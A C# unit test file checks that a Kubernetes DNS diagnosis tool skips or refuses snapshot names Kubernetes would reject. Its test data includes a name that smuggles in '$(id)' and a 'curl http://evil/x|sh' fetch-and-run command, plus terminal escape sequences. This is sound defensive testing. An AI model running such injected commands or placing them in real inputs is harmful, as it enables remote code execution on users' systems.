using System.Text.Json;
using DnsExpert.Contract;
using DnsExpert.Facts;
using DnsExpert.Readers.Building;

namespace DnsExpert.Readers.Tests;

/// <summary>Names from a snapshot reach findings and copyable commands: only names Kubernetes itself accepts are read.</summary>
public sealed class NameValidationTests
{
    private static JsonElement Json(string json) => JsonDocument.Parse(json).RootElement.Clone();

    private static JsonElement CoreDnsPod(string name, string ns = "kube-system") => Json(JsonSerializer.Serialize(new
    {
        apiVersion = "v1",
        kind = "Pod",
        metadata = new { name, @namespace = ns, labels = new Dictionary<string, string> { ["k8s-app"] = "kube-dns" } },
        status = new { phase = "Pending" },
    }));

    [Theory]
    [InlineData("coredns-x $(id) ; curl http://evil/x|sh #", "kube-system")]
    [InlineData("coredns-x\r\n\u001b[31m", "kube-system")]
    [InlineData("coredns-x\n", "kube-system")]
    [InlineData("Coredns-X", "kube-system")]
    [InlineData("coredns-x", "kube-system\n")]
    [InlineData("coredns-x", "kube_system")]
    public void An_object_with_a_name_kubernetes_would_refuse_is_skipped_with_a_collection_note(string name, string ns)
    {
        var request = new DiagnosisRequest { Snapshot = new Snapshot { Objects = [CoreDnsPod("coredns-good"), Json($"{{\"kind\":\"List\",\"items\":[{CoreDnsPod(name, ns).GetRawText()}]}}")] } };

        var facts = SnapshotFactBuilder.Build(request);

        var pod = Assert.Single(facts.Facts.OfType<CoreDnsPod>());
        Assert.Equal("coredns-good", pod.Name);
        var note = Assert.Single(facts.Collection, c => c.Detail?.Contains("skipped 1 object(s)", StringComparison.Ordinal) == true);
        Assert.Equal(CollectionStatus.Partial, note.Status);
        Assert.Contains("snapshot.objects[1].items[0] (Pod)", note.Detail, StringComparison.Ordinal);
        Assert.DoesNotContain(name, note.Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("web-0\n", false)]
    [InlineData("web-0", true)]
    [InlineData("cn-hangzhou.192.168.0.1", true)]
    public void A_trailing_line_break_is_no_longer_part_of_a_valid_name(string name, bool valid)
    {
        Assert.Equal(valid, RequestValidator.IsDnsSubdomain(name));
        Assert.Equal(valid && !name.Contains('.', StringComparison.Ordinal), RequestValidator.IsDnsLabel(name));
    }

    [Fact]
    public void Logs_and_files_with_names_kubernetes_would_refuse_are_refused_naming_the_field()
    {
        var request = new DiagnosisRequest
        {
            Snapshot = new Snapshot
            {
                Logs = [new LogArtifact { Namespace = "kube-system", Pod = "coredns-x $(id)" }],
                Files = [new FileArtifact { Node = "node-1\n", Path = "/etc/resolv.conf" }, new FileArtifact { Namespace = "Default", Pod = "web-0", Path = "/etc/resolv.conf" }],
            },
        };

        var errors = RequestValidator.Validate(request, new RequestLimits());

        Assert.Equal(["snapshot.files[0].node", "snapshot.files[1].namespace", "snapshot.logs[0].pod"], errors.Keys.Order(StringComparer.Ordinal));
    }
}
